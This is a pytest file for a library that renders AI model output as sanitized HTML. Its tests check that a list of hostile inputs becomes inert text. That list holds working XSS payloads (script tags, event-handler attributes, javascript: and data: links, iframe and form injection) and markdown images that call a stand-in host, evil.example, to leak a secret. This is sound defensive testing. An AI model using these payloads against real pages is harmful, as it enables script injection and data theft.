"""`render=html`: what a model says as HTML that is safe to put into a page, made once for all readers."""

import asyncio
import json
import random
import re
import subprocess
import sys
from pathlib import Path

import pytest

from holdfast import Agent, App
from holdfast.server.feeds import FeedReader, Feeds
from holdfast.server.html_feeds import HtmlFeeds
from holdfast.server.rendering import MARKDOWN_CHARS_MAX, TEXT_CHARS_MAX, blocks_of, rendered, rendered_block
from holdfast.testing import Say, ScriptedModel
from tests.support.servers import all_seen, created, reading, server

MARKDOWN = """# Kelp

It **holds** fast:

- to rocks
- to `ships`

  and piers

1. first
2. second

```python
def hold(rock: str) -> bool:

    return True
```

| depth | light |
|---|---|
| 1 m | much |

> said the [diver](https://example.org/kelp "a page")

The end.
"""

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "![x](http://evil.example/leak?secret)",
    "![x][y]\n\n[y]: http://evil.example/leak",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](/login?token=of-somebody-else) [y](//evil.example) [z](?q) [w](\\evil.example)",
    "<javascript:alert(1)>",
    '[x](https://e.example/" onmouseover="alert(1))',
    '[x](https://e.example "t\\" onmouseover=\\"alert(1)")',
    '```html" onload="alert(1)\n<script>alert(1)</script>\n```',
    "```python\n'''</code></pre><script>alert(1)</script>\n```",
    "`<b onclick=alert(1)>`",
    "<style>*{display:none}</style><iframe src=//evil.example></iframe><form action=//evil.example><input></form>",
    "<a href=javascript:alert(1)>x</a><math><mi xlink:href='data:x'>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "<!-- --><base href=//evil.example><meta http-equiv=refresh content=0>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
]
TAG = re.compile(r"<(/?[a-z0-9]+)((?:\s[^<>]*)?)>")
ALLOWED = "p br hr h1 h2 h3 h4 h5 h6 strong em s del code pre blockquote ul ol li a table thead tbody tr th td span"


def judge(made: str) -> None:
    """Only tags that only show, attributes that do nothing, and links that lead somewhere by http."""
    left = TAG.sub("", made)
    assert "<" not in left, made
    for name, attributes in TAG.findall(made):
        assert name.lstrip("/") in ALLOWED.split(), made
        found = dict(re.findall(r'([a-z-]+)="([^"]*)"', attributes))
        assert set(found) <= {"href", "title", "rel", "class", "start"}, made
        assert re.match(r"(https?|mailto):", found.get("href", "http:")), made


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_a_model_writes_becomes_markup_of_its_own(text: str) -> None:
    judge(rendered(text))
    for n in range(len(text)):
        judge(rendered(text[:n]))


def test_random_soup_of_hostile_pieces_stays_words() -> None:
    dice = random.Random(5)
    pieces = [*HOSTILE, "\n\n", "```", "> ", "- ", "|", "`", "**", '"', "'", "<", ">", "&#x3c;", "[", "](", ")"]
    for _ in range(150):
        judge(rendered("".join(dice.choices(pieces, k=8))))


def test_markdown_has_its_form() -> None:
    made = rendered(MARKDOWN)
    judge(made)
    for part in ("<h1>Kelp</h1>", "<strong>holds</strong>", "<code>ships</code>", "<td>1 m</td>", "<blockquote>"):
        assert part in made
    assert '<span class="k">def</span>' in made
    assert 'href="https://example.org/kelp"' in made
    assert made == "".join(rendered_block(block) for block in blocks_of(MARKDOWN))
    assert "".join(blocks_of(MARKDOWN)) == MARKDOWN


@pytest.mark.parametrize(
    "piece", ["[", "![", "[a](", "a**b", "<", "&", "> ", "- ", "`", "|", "word ", "\\", "```x\n"]
)
def test_hostile_length_is_bounded_by_size_and_not_by_luck(piece: str) -> None:
    """What is too long for markdown is words; of what is left, no block is longer than what was measured."""
    for chars in (MARKDOWN_CHARS_MAX, MARKDOWN_CHARS_MAX + 1):
        text = (piece * chars)[:chars]
        assert all(len(block) <= chars for block in blocks_of(text))
        judge(rendered(text))
    assert rendered("x" * (TEXT_CHARS_MAX + 1)).startswith("<pre>")


async def test_each_block_is_made_once_for_all_readers_and_ends_as_the_whole(tmp_path: Path) -> None:
    model = ScriptedModel([Say(text=MARKDOWN, piece_chars=7, pace_s=0.005)])
    app = App(f"sqlite:///{tmp_path}/chats.db", agents=[Agent("writer", model)], home=str(tmp_path))
    async with app.worker():
        chat = await app.create("writer", "write")
        feeds, html = Feeds(app.store), HtmlFeeds(app.store)

        async def read() -> tuple[dict[int, str], str, list[str]]:
            place = (await app.store.read_journal(chat.id, limit=0)).cursor
            reader, rendering = FeedReader(app.store, feeds, chat.id, None), html.enter(chat.id, place)
            blocks: dict[int, str] = {}
            whole, told = "", []
            try:
                while True:
                    frames = await reader.next()
                    for data in await rendering.events(frames):
                        found = json.loads(data.partition(b"data: ")[2])
                        told.append(found["html"])
                        if "block" in found:
                            blocks[found["block"]] = found["html"]
                        else:
                            whole = found["html"]
                    if frames[-1].rest:
                        return blocks, whole, told
            finally:
                reader.close()
                rendering.close()

        found = await asyncio.gather(*[read() for _ in range(5)])
    for blocks, whole, told in found:
        assert whole == rendered(MARKDOWN)
        assert list(blocks) == sorted(blocks)
        for n in list(blocks)[:-1]:
            assert blocks[n] == rendered_block(blocks_of(MARKDOWN)[n]), "what came before the last block is final"
        for made in told:
            judge(made)
    assert html._feeds == {}, "who leaves last turns the light off"


async def test_a_reader_who_asks_for_html_gets_it_and_the_others_do_not(tmp_path: Path) -> None:
    with server(f"sqlite:///{tmp_path}/chats.db", tmp_path / "home") as live:
        async with live.client() as client:
            chat_id = await created(client, "echo", "**hello** <script>")
            async with reading(client, chat_id, render="html") as events:
                found = [event async for event in events]
            assert "html" not in [event.event for event in await all_seen(client, chat_id)]
            assert (await client.get(f"/api/chats/{chat_id}/events?render=pdf")).status_code == 422
    (whole,) = [event.data for event in found if event.event == "html" and "message_id" in event.data]
    assert whole["html"] == "<p>You said: <strong>hello</strong> &lt;script&gt;</p>\n"
    assert [event.event for event in found][-1] == "end"


def test_who_renders_nothing_loads_no_renderer() -> None:
    program = "import sys, holdfast.server.http; print({'markdown_it', 'nh3', 'pygments'} & set(sys.modules))"
    done = subprocess.run([sys.executable, "-c", program], check=True, capture_output=True, text=True)
    assert done.stdout.strip() == "set()"
